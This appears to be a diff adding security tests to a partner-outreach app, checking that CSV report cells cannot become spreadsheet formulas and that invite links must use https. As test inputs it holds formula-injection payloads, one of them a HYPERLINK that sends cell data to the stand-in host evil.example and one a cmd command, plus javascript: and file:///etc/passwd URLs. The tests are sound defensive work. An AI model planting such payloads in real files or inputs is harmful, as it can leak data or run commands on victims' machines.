@@ -49,3 +49,44 @@ def test_every_text_a_rep_types_is_cleaned_once_at_the_boundary(session: Session
     )
     touch = records.save_touchpoint(session, draft)
     assert (touch.purpose, touch.note) == ("Plan", "ok")
+
+
+def test_report_csv_cells_cannot_be_formulas(session: Session) -> None:
+    import csv
+    import io
+
+    from nurture_tui.services.reports import build_report, report_csv
+
+    for name in (
+        '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
+        "+cmd|'/C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+    ):
+        records.add_partner(session, name, "hospital")
+    rows = list(csv.reader(io.StringIO(report_csv(build_report(session)))))
+    names = {row[1] for row in rows[1:]}
+    assert names == {
+        '\'=HYPERLINK("http://evil.example/?d="&A2,"Click")',
+        "'+cmd|'/C calc'!A0",
+        "'@SUM(1+1)",
+        "'-2+3",
+    }
+    assert all(not row[3].startswith("'") for row in rows[1:]), "numbers stay numbers"
+
+
+@pytest.mark.parametrize(
+    "link", ["javascript:alert(1)", "file:///etc/passwd", "http://zoom.us/j/1", "zoom.us/j/1"]
+)
+def test_only_https_links_reach_an_invite(session: Session, link: str) -> None:
+    from datetime import timedelta
+
+    from nurture_tui.domain.errors import ValidationError
+    from nurture_tui.services.invites import create_invite
+
+    partner = records.add_partner(session, "Hope Hospice", "hospice")
+    records.add_contact(session, partner.id, "Sam Ortiz", emails=["sam@hope.org"])
+    with pytest.raises(ValidationError, match="https"):
+        create_invite(
+            session, partner.id, "check-in", session.now() + timedelta(days=2), video_url=link
+        )
